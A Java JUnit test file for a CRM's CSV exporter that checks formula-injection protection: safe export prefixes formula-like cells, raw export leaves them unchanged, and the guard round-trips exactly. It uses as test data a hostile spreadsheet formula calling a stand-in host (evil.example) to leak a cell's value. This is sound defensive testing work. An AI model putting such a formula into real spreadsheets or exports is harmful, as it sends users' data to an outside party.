package com.nexuscrm.transfer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nexuscrm.domain.Lead;
import com.nexuscrm.domain.Progress;
import com.nexuscrm.storage.WorkspaceStore;
import com.nexuscrm.testing.Leads;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Safe export (formula-like cells prefixed with {@code '}), {@code raw} export, and the exact round trip. */
class CsvExportTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")";
    private static final String PHONE = "+1 415 555 0100";

    @TempDir
    Path dir;

    @Test
    void aSafeExportPrefixesEveryFormulaLikeCellAndTheImportRestoresThem() throws IOException {
        Path file = dir.resolve("leads.csv");
        Map<String, String> before;
        try (WorkspaceStore source = Workspaces.create(dir.resolve("source"))) {
            before = values(source.leads().save(dangerousLead()));
            new CsvExporter(source::repository).export(RecordKind.LEADS, file, Progress.NONE);
        }
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\""), text);
        assertTrue(text.contains(",'+1 415 555 0100,"), text);
        assertTrue(text.contains(",'-3,"), text);
        assertTrue(text.contains(",'@SUM(A1),"), text);
        assertTrue(text.contains(",''=already quoted,"), text);
        assertTrue(text.contains(",'tis plain,"), "an apostrophe before anything else stays as it is: " + text);
        assertFalse(text.matches("(?s).*,[=+\\-@].*"), "no cell starts with a formula character: " + text);

        try (WorkspaceStore target = Workspaces.create(dir.resolve("target"))) {
            ImportResult result = Workspaces.importer(target).importFile(RecordKind.LEADS, file, null, null,
                    Progress.NONE);
            assertEquals("imported 1, rejected 0, report: none", result.summary());
            assertEquals(before, values(target.leads().findAll().get(0)));
        }
    }

    @Test
    void aRawExportWritesTheCellsAsTheyAre() throws IOException {
        Path file = dir.resolve("raw.csv");
        try (WorkspaceStore source = Workspaces.create(dir.resolve("source"))) {
            source.leads().save(dangerousLead());
            new CsvExporter(source::repository, true).export(RecordKind.LEADS, file, Progress.NONE);
        }
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertTrue(text.contains(",\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\","), text);
        assertTrue(text.contains("," + PHONE + ","), text);
        assertTrue(text.contains(",-3,") && text.contains(",@SUM(A1),"), text);
        assertFalse(text.contains(",'+") || text.contains(",'-") || text.contains("\"'=") || text.contains("'\t"), text);
    }

    @Test
    void theGuardIsUndoneExactlyForEveryValue() {
        for (String value : List.of(FORMULA, PHONE, "@SUM(A1)", "-3", "\tx", "\rx", "'=a", "''+b", "'tis", "'",
                "", "plain", "a=b", "x-1")) {
            assertEquals(value, FormulaGuard.unprotect(FormulaGuard.protect(value)), value);
        }
        assertEquals("'-5", FormulaGuard.protect("-5"));
        assertEquals(-5, FieldType.INTEGER.parse(FormulaGuard.unprotect("'-5")), "a negative number reads back");
        assertEquals("'x", FormulaGuard.unprotect("'x"), "only a ' before a formula character is taken off");
    }

    private static Lead dangerousLead() {
        Lead lead = Leads.lead("Eve", "Mallory", "Evil Corp");
        lead.setFirstName(FORMULA);
        lead.setSearchTerms(FORMULA);
        lead.setPhone(PHONE);
        lead.setCompany("@SUM(A1)");
        lead.setTitle("-3");
        // A leading tab or carriage return is guarded too (theGuardIsUndoneExactlyForEveryValue), but no lead
        // field may hold one any more: one-line text refuses control characters (RecordRules).
        lead.setIndustry("'=already quoted");
        lead.setCountry("'tis plain");
        return lead;
    }

    private static Map<String, String> values(Lead lead) {
        Map<String, String> values = new TreeMap<>();
        RecordKind.LEADS.fields().forEach(f -> values.put(f.name(), String.valueOf(f.get(lead))));
        return values;
    }
}
